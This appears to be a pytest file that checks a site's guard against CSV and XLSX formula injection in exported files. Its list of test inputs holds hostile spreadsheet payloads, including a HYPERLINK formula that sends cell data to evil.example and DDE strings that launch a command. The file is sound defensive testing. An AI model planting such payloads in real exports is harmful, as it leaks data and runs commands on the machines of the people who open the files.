"""The one guard against formula injection in the files the site writes."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from core.exports import csv_writer, neutralise, xlsx_cell

ROOT = Path(__file__).resolve().parents[2]

# OWASP's list of starts, and payloads seen in the wild.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_prefixed_in_csv(value):
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["Siti", value, 5])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["Siti", "'" + value, "5"]


@pytest.mark.parametrize(
    "value", [0, -5, 125_000, Decimal("-1250.50"), 1.5, "-1,50", "+6281234567890", "12.5", None]
)
def test_numbers_stay_numbers(value):
    assert neutralise(value) is value


@pytest.mark.parametrize("value", ["Siti Aminah", "Tas = rajut", "a-b", "", "'=sudah"])
def test_ordinary_text_is_untouched(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_a_string_cell_in_xlsx(value):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Uji")
    sheet.append([xlsx_cell(sheet, value), xlsx_cell(sheet, 125_000)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell, number = next(load_workbook(buffer)["Uji"].iter_rows(min_row=1, max_row=1))
    # XML keeps a carriage return as a line feed.
    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n")
    assert cell.quotePrefix
    assert number.data_type == "n" and number.value == 125_000
    assert b"<f>" not in _sheet_xml(buffer)


def _sheet_xml(buffer) -> bytes:
    import zipfile

    with zipfile.ZipFile(buffer) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_no_code_writes_csv_or_xlsx_around_the_guard():
    """Every csv.writer and openpyxl cell of the site goes through core.exports."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/")) or "/migrations/" in relative:
            continue
        if relative == "core/exports.py":
            continue
        text = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(|WriteOnlyCell|xlsxwriter", text):
            offenders.append(relative)
        # A workbook may be put together elsewhere, its cells come from xlsx_cell.
        if "openpyxl" in text and "xlsx_cell" not in text:
            offenders.append(relative)
    assert offenders == []
